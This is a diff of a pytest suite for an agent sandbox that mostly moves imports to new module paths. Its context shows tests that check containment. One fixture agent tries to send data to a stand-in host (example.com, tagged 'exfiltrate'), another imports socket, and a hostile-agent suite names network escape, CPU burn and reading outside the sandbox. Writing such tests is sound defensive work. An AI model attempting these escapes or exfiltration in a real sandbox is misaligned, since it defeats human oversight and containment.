@@ -17,12 +17,14 @@ from pathlib import Path
 
 import pytest
 
-from shopdistill.catalog import Catalog, generate_catalog
-from shopdistill.config import repo_root
-from shopdistill.envelope import envelope_problems
-from shopdistill.run_agent import ProblemIndex, SandboxLimits, isolation_problem, static_check, run_agent_file
-from shopdistill.search import SearchEngine
-from shopdistill.tasks import synthesize_tasks
+from shopdistill.sandbox.catalog import Catalog, generate_catalog
+from shopdistill.core.run import repo_root
+from shopdistill.arena.envelope import envelope_problems
+from shopdistill.arena.agent_checks import ProblemIndex, static_check
+from shopdistill.arena.isolation import SandboxLimits, isolation_problem
+from shopdistill.arena.run_agent import run_agent_file
+from shopdistill.sandbox.search import SearchEngine
+from shopdistill.sandbox.task_synthesis import synthesize_tasks
 
 REFERENCE = repo_root() / "examples" / "reference_agent.py"
 SN15_SHAPE = repo_root() / "examples" / "sn15_shape_agent.py"
@@ -90,7 +92,7 @@ def test_more_forbidden_things(src):
 
 def test_clean_files_pass():
     assert static_check(REFERENCE.read_text(), PROBLEMS) == []
-    ok = "import json, re\nfrom shopdistill.tool_client import current_client\ndef agent_main(problem):\n    return []\n"
+    ok = "import json, re\nfrom shopdistill.arena.tool_client import current_client\ndef agent_main(problem):\n    return []\n"
     assert static_check(ok, PROBLEMS) == []
 
 
@@ -117,8 +119,8 @@ def test_misbehaving_agents_become_envelopes_and_the_run_goes_on(sandbox, tmp_pa
     ids = [t["id"] for t in tasks[:5]]
     f = _file(tmp_path, "moody", f"""
         import sys, time
-        from shopdistill.tool_client import current_client, episode_env
-        from shopdistill.env import call_tool
+        from shopdistill.arena.tool_client import current_client, episode_env
+        from shopdistill.sandbox.tools import call_tool
         MOODS = {dict(zip(ids, ["crash", "sleep", "garbage", "exit", "work"]))!r}
 
         def agent_main(problem):
@@ -164,7 +166,7 @@ def test_suite_limit_times_out_the_rest(sandbox, tmp_path):
 
 def _sneaky_files(tmp_path):
     net = _file(tmp_path, "sneaky", """
-        from shopdistill.tool_client import HttpToolClient
+        from shopdistill.arena.tool_client import HttpToolClient
         def agent_main(problem):
             HttpToolClient("http://example.com").find_product("exfiltrate")
             return []
@@ -206,7 +208,7 @@ def test_rejected_file_never_runs(sandbox, tmp_path):
 
 
 def test_cli_check_and_run(tmp_path, monkeypatch, capsys):
-    from shopdistill.cli import main
+    from shopdistill.reproduce.cli import main
     bad = _file(tmp_path, "bad", "import socket\ndef agent_main(problem):\n    return []\n")
     assert main(["arena", "check", str(bad)]) == 1
     assert "forbidden_import (line 1)" in capsys.readouterr().out
@@ -246,7 +248,7 @@ def test_sn15_shaped_agent_is_accepted_and_scored(sandboxed, sandbox):
 
 
 def test_model_url_puts_a_real_endpoint_behind_the_model_route(sandboxed, sandbox):
-    from shopdistill.judge import ScriptedChatServer
+    from shopdistill.corpus.judge import ScriptedChatServer
     engine, tasks = sandbox
     with ScriptedChatServer(lambda body: (200, "stainless bottle", 0.0)) as chat:
         res = run_agent_file(SN15_SHAPE, tasks[:1], engine, timeout_problem=60, model_url=chat.url, model="served-model")
@@ -277,7 +279,7 @@ def test_an_interpreter_under_tmp_is_not_hidden_by_the_sandbox_scratch(sandboxed
         venv = Path(d) / "clone" / ".venv"
         subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True, capture_output=True)
         env = dict(os.environ, PYTHONPATH=os.pathsep.join(p for p in sys.path if p))
-        code = "from shopdistill.run_agent import isolation_problem; import sys; print(sys.prefix); print(isolation_problem())"
+        code = "from shopdistill.arena.run_agent import isolation_problem; import sys; print(sys.prefix); print(isolation_problem())"
         out = subprocess.run([str(venv / "bin" / "python"), "-c", code], capture_output=True, text=True, env=env, timeout=120)
         assert out.returncode == 0, out.stderr
         prefix, why = out.stdout.strip().splitlines()
@@ -292,7 +294,7 @@ def test_refuses_on_a_kernel_without_namespaces(sandboxed, tmp_path):
     prof.write_text("catalog: {n_products: 500, seed: 0}\ntasks: {n: {product: 1, shop: 1, voucher: 1}, seed: 0}\n")
     env = dict(os.environ, SHOPDISTILL_RUNS=str(tmp_path / "runs"), PYTHONPATH=os.pathsep.join(sys.path))
     def cli(*extra):
-        code = (f"import sys; from shopdistill.cli import main; sys.exit(main(['arena', 'run-agent', {str(REFERENCE)!r}, '--profile', "
+        code = (f"import sys; from shopdistill.reproduce.cli import main; sys.exit(main(['arena', 'run-agent', {str(REFERENCE)!r}, '--profile', "
                 f"{str(prof)!r}, '--n', '1', '--out', {str(tmp_path / 'out')!r}] + {list(extra)!r}))")
         return subprocess.run(["bwrap", "--unshare-user", "--disable-userns", "--uid", "1000", "--gid", "1000", "--bind", "/", "/",
                                "--dev", "/dev", "--proc", "/proc", "--", sys.executable, "-c", code], capture_output=True, text=True, env=env, timeout=300)
@@ -353,8 +355,8 @@ class _Canaries:
 @pytest.fixture(scope="module")
 def hostile_project(tmp_path_factory):
     "A project folder as a new user has it: a profile, its runs/ with the gold tasks file, the agent files beside them."
-    from shopdistill.config import load_config
-    from shopdistill.season import load_sandbox
+    from shopdistill.reproduce.settings import load_config
+    from shopdistill.arena.season import load_sandbox
     proj = tmp_path_factory.mktemp("project")
     prof = proj / "hostile.yaml"
     prof.write_text("catalog: {n_products: 2000, seed: 0}\ntasks: {n: {product: 2, shop: 2, voucher: 2}, seed: 0}\n")
@@ -402,8 +404,8 @@ TIMEOUTS = {"escape_group": 3, "cpu_burn": 3, "network_escape": 30, "read_outsid
 
 @pytest.mark.parametrize("path", HOSTILE, ids=[p.stem for p in HOSTILE])
 def test_hostile_agent_is_contained(sandboxed, hostile_project, path, monkeypatch, capsys):
-    from shopdistill.cli import main
-    from shopdistill.envelope import STATUSES
+    from shopdistill.reproduce.cli import main
+    from shopdistill.arena.envelope import STATUSES
     proj, prof, gold, canaries = hostile_project
     assert path.stem in CONTAINED, f"{path.name} has no containment check"
     agent = proj / path.name
